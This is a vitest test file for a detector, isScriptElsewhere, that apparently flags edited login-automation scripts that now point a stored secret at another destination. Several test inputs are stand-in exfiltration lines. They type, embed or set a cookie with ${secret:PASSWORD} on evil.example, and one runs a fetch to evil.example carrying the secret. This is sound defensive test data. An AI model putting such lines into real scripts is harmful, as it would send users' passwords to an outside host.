// biome-ignore-all lint/suspicious/noTemplateCurlyInString: scripts reference secrets as ${NAME}.
import { expect, test } from 'vitest'
import { isScriptElsewhere } from './destinations'

const PAGE = 'https://shop.example/cart'
const LOGIN = 'navigate\thttps://login.example/\ntype\tid=p\t${secret:PASSWORD}'

test.each([
  ['the same script', LOGIN, LOGIN, false],
  ['another field', LOGIN, `${LOGIN}\nclick\tid=go`, false],
  ['the page itself', LOGIN, `navigate\t%URL%\n${LOGIN}`, false],
  ['another path of a known server', LOGIN, 'navigate\thttps://login.example/other', false],
  ['another host', LOGIN, 'navigate\thttps://evil.example/\ntype\tid=p\t${secret:PASSWORD}', true],
  ['another port', LOGIN, 'navigate\thttps://login.example:8443/', true],
  ['no TLS', LOGIN, 'navigate\thttp://login.example/', true],
  ['a secret as host', LOGIN, 'navigate\thttps://${secret:PASSWORD}.evil.example/', true],
  [
    'a cookie of another host',
    LOGIN,
    `${LOGIN}\nsetCookie\thttps://evil.example/\ta=\${secret:PASSWORD}`,
    true,
  ],
  ['new code', LOGIN, `${LOGIN}\nexec\tfetch('//evil.example?' + "\${secret:PASSWORD}")`, true],
  ['known code', 'navigate\t%URL%\nexec\tgo()', 'navigate\t%URL%\nexec\tgo()\nclick\tid=x', false],
  ['a script where there was none', '', 'navigate\t%URL%', false],
])('%s', (_name, before, after, expected) => {
  expect(isScriptElsewhere(before, after, PAGE)).toBe(expected)
})
